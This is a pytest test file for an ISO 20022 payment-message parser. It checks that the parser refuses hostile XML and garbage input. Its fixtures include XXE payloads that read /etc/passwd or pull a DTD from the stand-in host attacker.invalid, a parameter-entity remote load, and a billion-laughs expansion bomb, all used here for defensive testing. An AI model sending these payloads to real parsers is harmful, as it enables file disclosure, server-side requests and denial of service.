"""Untrusted input: hostile documents, garbage and unsupported messages get the right named error."""

from __future__ import annotations

import pytest
from lxml import etree

from streamledger.iso20022 import (
    DEFAULT_MAX_BYTES,
    HostileMessageError,
    Iso20022Error,
    MalformedMessageError,
    UnsupportedMessageError,
    parse_message,
)
from streamledger.iso20022.secure_xml import hardened_parser

from . import iso20022_samples as samples

NS = "urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"

XXE = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Document xmlns="{NS}"><FIToFICstmrCdtTrf><GrpHdr>
<MsgId>&secret;</MsgId></GrpHdr></FIToFICstmrCdtTrf></Document>
""".encode()

XXE_OVER_HTTP = f"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.invalid/evil.dtd">
<Document xmlns="{NS}"/>
""".encode()

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode()
        for n in range(1, 10)
    )
    + f']>\n<Document xmlns="{NS}"><X>&lol9;</X></Document>\n'.encode()
)

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]><d/>"""


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (XXE, "DOCTYPE"),
        (XXE_OVER_HTTP, "DOCTYPE"),
        (BILLION_LAUGHS, "DOCTYPE"),
        (PARAMETER_ENTITY, "DOCTYPE"),
        (b"<!DOCTYPE Document>\n" + samples.pacs008(), "DOCTYPE"),
        (b"<!doctype Document>" + samples.pacs008().split(b"?>", 1)[1], "DOCTYPE"),
        (b'<!ENTITY x "y">' + samples.pacs008(), "ENTITY"),
    ],
    ids=[
        "xxe-file",
        "xxe-http",
        "billion-laughs",
        "parameter-entity",
        "doctype-alone",
        "lower-case",
        "entity",
    ],
)
def test_dtds_and_entities_are_refused_before_parsing(data: bytes, kind: str) -> None:
    with pytest.raises(HostileMessageError, match=f"{kind} declaration") as raised:
        parse_message(data)
    assert "root:" not in str(raised.value)  # nothing from /etc/passwd leaks into the error


def test_doctype_in_utf16_cannot_hide_from_the_scan() -> None:
    with pytest.raises(MalformedMessageError, match="UTF-8"):
        parse_message(XXE.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))


def test_oversize_input_is_refused_before_parsing() -> None:
    data = samples.pacs008()
    with pytest.raises(HostileMessageError, match=f"{len(data)} bytes, above the limit of 100 bytes"):
        parse_message(data, max_bytes=100)
    huge = b" " * (DEFAULT_MAX_BYTES + 1)
    with pytest.raises(HostileMessageError, match="above the limit of 5242880 bytes"):
        parse_message(huge)


def test_default_limit_is_five_mebibytes() -> None:
    assert DEFAULT_MAX_BYTES == 5 * 1024 * 1024


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "input is empty"),
        (b"  \r\n", "input is empty"),
        (b"MsgId,Amount\nM-1,100\n", "not well-formed XML"),
        (b'{"MsgId": "M-1"}', "not well-formed XML"),
        (samples.pacs008()[:-40], "not well-formed XML"),
        (samples.pacs008().replace(b"Claire", b"Cl\xe9ire"), r"not valid UTF-8 \(byte \d+\)"),
        (samples.pacs008().replace(b"<MsgId>", b"<MsgId>\x00"), "NUL byte"),
        (b'<?xml version="1.0"?><html><body>hello</body></html>', "no ISO 20022 Document element"),
        (
            b"<Envelope>" + samples.pacs008().split(b"?>", 1)[1] * 2 + b"</Envelope>",
            "found 2 Document elements",
        ),
        (
            f'<Document xmlns="{NS}"><PmtRtr/></Document>'.encode(),
            "Document holds PmtRtr, expected FIToFICstmrCdtTrf",
        ),
        (f'<Document xmlns="{NS}"/>'.encode(), "exactly one message element, found 0"),
    ],
    ids=[
        "empty",
        "blank",
        "csv",
        "json",
        "truncated",
        "latin-1",
        "nul",
        "html",
        "two-documents",
        "wrong-root",
        "empty-document",
    ],
)
def test_garbage_is_malformed(data: bytes, problem: str) -> None:
    with pytest.raises(MalformedMessageError, match=problem):
        parse_message(data)


@pytest.mark.parametrize(
    ("namespace", "problem"),
    [
        ("urn:iso:std:iso:20022:tech:xsd:pacs.008.001.02", "pacs.008.001.02 .* is not supported"),
        ("urn:iso:std:iso:20022:tech:xsd:pacs.999.001.01", "pacs.999.001.01 .* is not supported"),
        ("urn:iso:std:iso:20022:tech:xsd:camt.052.001.08", "camt.052.001.08 .* is not supported"),
        ("urn:iso:std:iso:20022:tech:xsd:nonsense", "does not name an ISO 20022 message version"),
        ("urn:example:payments", "is not an ISO 20022 message namespace"),
    ],
)
def test_unsupported_namespaces_are_named(namespace: str, problem: str) -> None:
    data = samples.pacs008().replace(NS.encode(), namespace.encode())
    with pytest.raises(UnsupportedMessageError, match=problem) as raised:
        parse_message(data)
    assert namespace in str(raised.value)


def test_unsupported_version_lists_the_supported_ones() -> None:
    data = samples.pacs008().replace(NS.encode(), NS.replace(".08", ".02").encode())
    with pytest.raises(UnsupportedMessageError, match=r"supported: pacs\.008\.001\.08, pacs\.008\.001\.12"):
        parse_message(data)


def test_errors_are_one_line_and_carry_the_source() -> None:
    truncated = samples.pacs008()[:-40]
    with pytest.raises(Iso20022Error) as raised:
        parse_message(truncated, source="inbox/pacs008.xml")
    assert "\n" not in str(raised.value)
    assert raised.value.source == "inbox/pacs008.xml"


def test_the_parser_itself_neither_loads_nor_expands_entities() -> None:
    """Second line of defence, should the DOCTYPE scan ever be bypassed."""
    root = etree.fromstring(XXE, hardened_parser())
    assert b"root:" not in etree.tostring(root)
    with pytest.raises(etree.XMLSyntaxError):
        etree.fromstring(BILLION_LAUGHS, hardened_parser())


def test_character_references_are_plain_xml_and_still_read() -> None:
    data = samples.with_text(samples.pacs008(), "Claire Martin", "Claire &#77;artin &amp; Co")
    (event,) = parse_message(data).events
    assert event.creditor_name == "Claire Martin & Co"
